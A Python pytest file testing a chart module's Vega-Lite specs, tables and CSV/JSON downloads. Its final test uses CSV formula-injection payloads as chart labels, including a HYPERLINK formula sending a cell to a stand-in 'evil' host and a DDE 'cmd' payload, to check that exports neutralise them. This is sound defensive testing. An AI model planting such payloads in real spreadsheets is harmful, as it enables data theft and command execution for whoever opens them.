"""The one chart module: Vega-Lite specs with title, axis titles, legend and tooltips; the table beside
each chart; only the top scatter points labelled; clear errors for bad chart JSON."""
import csv
import io
import json
import shutil
import subprocess
from pathlib import Path
from urllib.parse import unquote

import pytest

from core.charts import CONFIG, TOP_LABELS, WIDTH, ChartError, chart_spec, chart_view, top_points

BAR = {"kind": "bar", "title": "Questions per category", "format": "int", "x_label": "questions",
       "y_label": "Category", "items": [{"label": "<script>", "value": 4}, {"label": "b", "value": 2}]}
GROUPED = {"kind": "grouped_bar", "title": "Accuracy", "format": "percent", "max": 1.0,
           "reference": {"value": 0.25, "label": "chance"}, "groups": ["idioms", "all"],
           "series": [{"name": "live", "values": [0.5, 1.0]}, {"name": "humans", "values": [None, 0.75]}]}
SCATTER = {"kind": "scatter", "title": "Fig 2", "x_label": "uniform", "y_label": "reweighted",
           "points": [{"x": 0.3, "y": 0.1, "label": "nobody"}, {"x": 0.1, "y": 0.2, "label": "sleeping", "highlight": True},
                      {"x": None, "y": 0.2, "label": "absent"}]}
DIVERGING = {"kind": "diverging_bar", "title": "Disparity", "negative_label": "more men", "positive_label": "more women",
             "items": [{"label": "nurse", "value": 30}, {"label": "pilot", "value": -60}]}
ALL = [BAR, GROUPED, SCATTER, DIVERGING]


def encodings(spec: dict) -> list[dict]:
    return [layer.get("encoding", {}) for layer in spec["layer"]]


@pytest.mark.parametrize("chart", ALL, ids=lambda c: c["kind"])
def test_every_chart_has_title_axis_titles_legend_and_tooltips(chart):
    spec = chart_spec(chart)
    assert spec["title"]["text"] == chart["title"]
    main = encodings(spec)[0]
    assert main["x"]["title"] and main["y"]["title"]
    assert main["color"]["field"] == "series" and main["color"]["legend"] is not None
    assert main["tooltip"] and all(t.get("title") for t in main["tooltip"])
    # the same size and type everywhere
    assert spec["width"] == WIDTH and spec["config"] is CONFIG
    json.dumps(spec)  # plain JSON, ready for json_script


def test_long_titles_keep_every_word_in_a_subtitle():
    spec = chart_spec({**BAR, "title": "Accuracy per category for every model we scored (dashed line: 25% chance)"})
    assert spec["title"] == {"text": "Accuracy per category for every model we scored", "subtitle": "dashed line: 25% chance"}
    assert chart_view("c", {**BAR, "title": "Short (kept)"}).title == "Short (kept)"


def test_axis_titles_come_from_the_chart_json():
    spec = chart_spec(SCATTER)
    assert encodings(spec)[0]["x"]["title"] == "uniform" and encodings(spec)[0]["y"]["title"] == "reweighted"
    assert encodings(chart_spec(BAR))[0]["x"]["title"] == "questions"


def test_tooltips_use_the_chart_format():
    tooltip = encodings(chart_spec(GROUPED))[0]["tooltip"]
    assert {"field": "value", "type": "quantitative", "title": "value", "format": ".1%"} in tooltip


def test_reference_line_and_missing_values():
    spec = chart_spec(GROUPED)
    assert spec["layer"][1]["mark"]["type"] == "rule" and spec["layer"][1]["data"]["values"][0]["reference"] == 0.25
    assert "reference: chance (25.0%)" in encodings(spec)[0]["color"]["scale"]["domain"]  # in the legend
    view = chart_view("c", GROUPED)
    assert view.columns == ["Group", "live", "humans"]
    assert view.rows == [["idioms", "50.0%", "—"], ["all", "100.0%", "75.0%"]]
    with pytest.raises(ChartError, match="one value per group"):
        chart_spec({"kind": "grouped_bar", "groups": ["a", "b"], "series": [{"name": "x", "values": [1]}]})


def test_bar_intervals_and_details_reach_tooltip_and_table():
    chart = {"kind": "bar", "title": "Human accuracy", "format": "percent",
             "items": [{"label": "All", "value": 0.5, "low": 0.4, "high": 0.6, "detail": "10 answers"}]}
    spec = chart_spec(chart)
    assert spec["layer"][1]["mark"]["type"] == "rule" and spec["layer"][1]["encoding"]["x2"] == {"field": "high"}
    assert "95% interval" in encodings(spec)[0]["color"]["scale"]["domain"]
    view = chart_view("acc", chart)
    assert view.rows == [["All", "50.0%", "40.0% – 60.0%", "10 answers"]]


def test_scatter_labels_only_top_points():
    spec = chart_spec(SCATTER)
    labelled = [p["label"] for p in spec["data"]["values"] if p["labelled"]]
    assert labelled == ["sleeping"] and len(spec["data"]["values"]) == 2  # the point without x is left out
    assert spec["layer"][1]["mark"]["type"] == "text" and spec["layer"][1]["transform"] == [{"filter": "datum.labelled"}]


def test_top_points_cap_and_no_piles_of_labels():
    # 40 highlighted words on one spot (the old blob) and 20 spread out: at most TOP_LABELS labels,
    # the farthest from the diagonal first, and only one on the crowded spot.
    crowd = [{"x": 0.1, "y": 0.5, "label": f"w{i}", "highlight": True} for i in range(40)]
    spread = [{"x": 0.02 * i, "y": 0.02 * i + 0.01 * i, "label": f"s{i}", "highlight": True} for i in range(20)]
    plain = [{"x": 0.0, "y": 0.9, "label": "not highlighted"}]
    points = crowd + spread + plain
    chosen = top_points(points)
    assert len(chosen) == TOP_LABELS
    assert sum(i < 40 for i in chosen) == 1 and 60 not in chosen
    distances = sorted((abs(points[i]["y"] - points[i]["x"]) for i in chosen), reverse=True)
    assert distances[0] == pytest.approx(0.4)


def test_diverging_bars_have_both_sides_in_the_legend():
    spec = chart_spec(DIVERGING)
    data = spec["data"]["values"]
    assert [(d["label"], d["series"]) for d in data] == [("nurse", "more women"), ("pilot", "more men")]
    assert encodings(spec)[0]["color"]["scale"]["domain"] == ["more men", "more women"]


def test_chart_view_table_and_downloads():
    view = chart_view("chart-x", BAR)
    assert view.spec_id == "chart-x-spec" and view.columns == ["Category", "questions"]
    assert view.rows == [["<script>", "4"], ["b", "2"]]  # escaped by the template, not here
    csv_text = unquote(view.csv_href.split(",", 1)[1])
    assert csv_text.splitlines() == ["label,series,value", "<script>,questions,4.0", "b,questions,2.0"]
    assert json.loads(unquote(view.json_href.split(",", 1)[1]))[1] == {"label": "b", "series": "questions", "value": 2.0}


@pytest.mark.parametrize(
    ("chart", "message"),
    [({"kind": "pie"}, "unknown chart kind"), ("bar", "unknown chart kind"),
     ({"kind": "bar", "items": [{"label": "a", "value": "3"}]}, "not a number")],
)
def test_bad_chart_json(chart, message):
    with pytest.raises(ChartError, match=message):
        chart_spec(chart)


@pytest.mark.parametrize("kind", ["bar", "grouped_bar", "scatter", "diverging_bar"])
def test_empty_and_old_charts_still_build(kind):
    spec = chart_spec({"kind": kind, "title": "empty"})  # a chart stored before the axis keys existed
    assert spec["title"]["text"] == "empty" and spec["data"]["values"] == []


NODE_MODULES = Path(__file__).resolve().parents[2] / "node_modules"


@pytest.mark.skipif(shutil.which("node") is None or not (NODE_MODULES / "vega").is_dir(),
                    reason="needs node and `npm ci` (scripts/test.sh installs both)")
@pytest.mark.parametrize("values", [(-1, 0), (0, 2), (-3, 1), (-60, 30)])
def test_integer_axes_never_repeat_a_tick_label(values):
    """A count axis over a small range once read "-1 -1 -1 0 0 0" (ticks between the integers, printed
    as integers); rendered by the real vega, every tick label must differ."""
    chart = {**DIVERGING, "format": "int",
             "items": [{"label": "a", "value": values[0]}, {"label": "b", "value": values[1]}]}
    rendered = subprocess.run(["node", str(Path(__file__).with_name("axis_labels.mjs"))], input=json.dumps(chart_spec(chart)),
                              capture_output=True, text=True, check=True, cwd=NODE_MODULES.parent, timeout=60)
    value_axis, category_axis = json.loads(rendered.stdout)
    assert category_axis == ["a", "b"]
    assert len(value_axis) >= 2 and len(set(value_axis)) == len(value_axis), value_axis
    numbers = [int(label.replace("\u2212", "-").replace(",", "")) for label in value_axis]
    assert numbers == sorted(numbers) and numbers[0] <= min(values, default=0) <= numbers[-1]


def test_chart_csv_download_guards_formulas_as_every_csv_does():
    # Labels come from users (features, names, prompts): the chart's CSV link is for spreadsheets too.
    chart = {"kind": "bar", "title": "Hostile", "items": [
        {"label": '=HYPERLINK("http://evil/?"&A1,"x")', "value": 1},
        {"label": "+cmd|' /C calc'!A0", "value": -2, "detail": "@SUM(1)"},
        {"label": "-1", "value": 3}]}
    rows = list(csv.reader(io.StringIO(unquote(chart_view("chart-h", chart).csv_href.split(",", 1)[1]))))
    assert rows[0] == ["label", "series", "value", "detail"]
    assert [row[0] for row in rows[1:]] == ['\'=HYPERLINK("http://evil/?"&A1,"x")', "'+cmd|' /C calc'!A0", "'-1"]
    assert rows[2][2:] == ["-2.0", "'@SUM(1)"]  # numbers stay numbers; text in any column is guarded
    assert rows[1][3] == ""  # a row without the optional column has an empty cell
